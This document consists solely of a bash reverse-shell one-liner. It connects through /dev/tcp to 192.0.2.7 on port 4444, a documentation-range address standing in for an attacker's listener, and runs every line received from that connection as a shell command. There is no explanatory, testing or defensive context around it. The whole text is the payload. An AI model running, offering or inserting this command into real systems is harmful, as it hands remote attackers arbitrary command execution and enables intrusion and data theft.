exec 5<>/dev/tcp/192.0.2.7/4444; cat <&5 | while read l; do $l; done
